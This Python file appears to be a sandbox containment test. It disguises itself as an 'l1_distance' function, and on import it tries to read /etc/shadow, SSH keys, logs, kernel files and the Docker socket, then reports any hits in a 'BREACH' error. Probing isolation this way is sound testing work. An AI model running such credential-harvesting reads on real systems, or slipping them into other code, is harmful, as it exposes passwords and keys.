"""Reads passwords, keys, logs and the kernel's own files."""
# expect: lost=l1_distance says=held

import glob
import os

found = []
for pattern in (
    "/etc/passwd", "/etc/shadow", "/etc/hostname", "/root/.ssh/*", "/home/*/.ssh/*", "/root/.bashrc", "/var/log/*",
    "/sys/kernel/*", "/boot/*", "/run/*", "/var/run/docker.sock", "/etc/ssh/*",
):  # fmt: skip
    for path in {pattern, *glob.glob(pattern)}:
        try:
            with open(path, "rb") as f:
                found.append(path + repr(f.read(20)))
        except OSError:
            pass
for folder in ("/", "/etc", "/root", "/home", "/sys", "/run"):
    try:
        found.append(folder + str(os.listdir(folder)))
    except OSError:
        pass


def l1_distance(I1, I2):
    raise RuntimeError("BREACH: " + "; ".join(found)[:300] if found else "held")
